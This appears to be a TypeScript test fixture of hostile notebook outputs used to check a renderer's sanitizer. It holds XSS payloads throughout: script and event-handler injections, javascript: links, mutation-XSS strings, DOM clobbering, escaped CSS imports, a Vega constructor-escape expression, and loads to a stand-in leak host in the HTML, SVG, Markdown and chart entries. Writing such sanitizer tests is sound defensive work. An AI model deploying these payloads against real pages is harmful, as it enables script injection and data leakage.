/** Outputs and texts made to run script, load something, or break out. `__hits` counts what ran. */
import { type MimeBundle } from '../../../src/shared/outputs.ts';

const RUN = 'window.__hits++; top.__hits++; parent.__hits++';
/** The tests put the address of a listening trap in its place. */
const EVIL = 'http://trap.invalid/leak';

export const HTML: Readonly<Record<string, string>> = {
  script: `<b>x</b><script>${RUN}</script>`,
  handlers: `<img src=x onerror="${RUN}"><svg onload="${RUN}"></svg><body onload="${RUN}"><details open ontoggle="${RUN}">`,
  'javascript links': `<a href="javascript:${RUN}">click</a><form action="javascript:${RUN}"><button>go</button></form>`,
  'base and refresh': `<base href="${EVIL}"><meta http-equiv="refresh" content="0;url=${EVIL}"><p>x</p>`,
  frames: `<iframe srcdoc="<script>${RUN}</script>"></iframe><iframe src="${EVIL}"></iframe><object data="${EVIL}"></object><embed src="${EVIL}">`,
  'resource links': `<link rel=stylesheet href="${EVIL}.css"><link rel=prefetch href="${EVIL}"><link rel=preconnect href="${EVIL}"><p>x</p>`,
  'css that loads': `<style>@import url(${EVIL}.css); body{background:url(${EVIL}.png)} @font-face{font-family:f;src:url(${EVIL}.ttf)} p{font-family:f}</style><p style="background:url(${EVIL}2.png)">x</p>`,
  'css that loads, escaped': `<style>@\\69mport "${EVIL}.css"; body{background:u\\72l(${EVIL}.png)} p{background:image-set("${EVIL}.png" 1x)}</style><p style="background:u\\72l(${EVIL}2.png)">x</p>`,
  'media and pictures': `<img src="${EVIL}.png" srcset="${EVIL}2.png 2x"><video src="${EVIL}.mp4" poster="${EVIL}.png"></video><audio src="${EVIL}"></audio><picture><source srcset="${EVIL}"><img></picture>`,
  'inline svg': `<svg><image href="${EVIL}.png"/><use href="${EVIL}.svg#a"/><a href="javascript:${RUN}"><text>t</text></a><script>${RUN}</script></svg>`,
  'mutation 1': `<select><iframe></select><img src=x: onerror="${RUN}">`,
  'mutation 2': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='${RUN}'&gt;">`,
  'mutation 3': `<noscript><p title="</noscript><img src=x onerror='${RUN}'>"></noscript><template><img src=x onerror="${RUN}"></template>`,
  clobbering: `<a id=acquireVsCodeApi></a><form name=document><input name=body></form><img name=__nonce><p id=root>x</p>`,
  'table with handlers': `<table class="dataframe" onclick="${RUN}"><tr><td onmouseover="${RUN}"><img src=x onerror="${RUN}">1</td></tr></table>`,
  'plain table with tricks': `<div><style scoped>.dataframe tbody tr th {} body{background:url(${EVIL})}</style><table border="1" class="dataframe" id="root"><tbody><tr><td><b id=acquireVsCodeApi>1</b></td></tr></tbody></table></div>`,
  covering: `<div style="position:fixed;inset:0;z-index:99999;background:red">cover</div>`,
};

const svg = (body: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="50">${body}</svg>`;

export const SVG: Readonly<Record<string, string>> = {
  script: svg(`<script>${RUN}</script><rect width="9" height="9" onload="${RUN}"/>`),
  foreignObject: svg(
    `<foreignObject width="99" height="49"><body xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}"><img src="x" onerror="${RUN}"/></body></foreignObject>`,
  ),
  loading: svg(
    `<image href="${EVIL}.png" width="9" height="9"/><use xlink:href="${EVIL}.svg#x"/><style>@import url(${EVIL}.css);</style>`,
  ),
  smil: svg(`<a><set attributeName="href" to="javascript:${RUN}"/><text y="20">x</text></a>`),
  entities: `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>${svg('<text>&b;</text>')}`,
};

export const MARKDOWN: readonly string[] = [
  `<script>${RUN}</script><img src=x onerror="${RUN}">`,
  `![x](${EVIL}?d=1) ![y][r]\n\n[r]: ${EVIL}?d=2`,
  `[a](javascript:${RUN}) [b](command:workbench.action.terminal.new) [c](vscode://x) [d](data:text/html,<script>${RUN}</script>) <javascript:${RUN}>`,
  '```html\n<script>' + RUN + '</script>\n```',
  `[ok"onclick="${RUN}](https://example.com/"onmouseover="${RUN})`,
  '| a"onerror= |\n|---|\n| <img src=x onerror=' + RUN + '> |',
];

const VEGA = {
  $schema: 'https://vega.github.io/schema/vega-lite/v5.json',
  mark: 'bar',
  encoding: { x: { field: 'a' }, y: { field: 'b', type: 'quantitative' } },
};
const VALUES = {
  values: [
    { a: 'A', b: 1 },
    { a: 'B', b: 2 },
  ],
};

export const CHARTS: Readonly<Record<string, MimeBundle>> = {
  'vega data from outside': {
    'application/vnd.vegalite.v5+json': { ...VEGA, data: { url: `${EVIL}.csv` } },
    'text/plain': 'alt',
  },
  'vega expression': {
    'application/vnd.vegalite.v5+json': {
      ...VEGA,
      data: VALUES,
      transform: [{ filter: "[].constructor.constructor('window.__hits++')()" }],
    },
  },
  'vega links and pictures': {
    'application/vnd.vegalite.v5+json': {
      data: { values: [{ a: 'A', u: `${EVIL}.png`, h: `javascript:${RUN}` }] },
      mark: 'image',
      encoding: { url: { field: 'u' }, href: { field: 'h' }, x: { field: 'a' } },
    },
  },
  'vega options in the data': {
    'application/vnd.vegalite.v5+json': {
      ...VEGA,
      data: VALUES,
      usermeta: {
        embedOptions: { loader: { baseURL: EVIL }, patch: `${EVIL}.json`, ast: false, actions: true },
      },
    },
  },
  'plotly links and pictures': {
    'application/vnd.plotly.v1+json': {
      data: [
        {
          type: 'bar',
          x: [`<a href="javascript:${RUN}">a</a>`],
          y: [1],
          text: [`<img src=x onerror="${RUN}">`],
        },
      ],
      layout: {
        title: { text: `<a href="javascript:${RUN}">t</a><script>${RUN}</script>` },
        images: [{ source: `${EVIL}.png`, xref: 'paper', yref: 'paper', x: 0, y: 1, sizex: 1, sizey: 1 }],
      },
      config: { plotlyServerURL: EVIL, showSendToCloud: true, showLink: true, linkText: 'x' },
    },
  },
  'plotly map': {
    'application/vnd.plotly.v1+json': {
      data: [{ type: 'choropleth', geojson: `${EVIL}.json` }],
      layout: { geo: {} },
    },
    'text/plain': 'map',
  },
  'script as a type': { 'application/javascript': RUN, 'text/plain': 'js' },
  'html made by script': {
    'text/html': `<div id="plot"></div><script src="${EVIL}.js"></script><script>${RUN}</script>`,
    'text/plain': 'fig',
  },
};
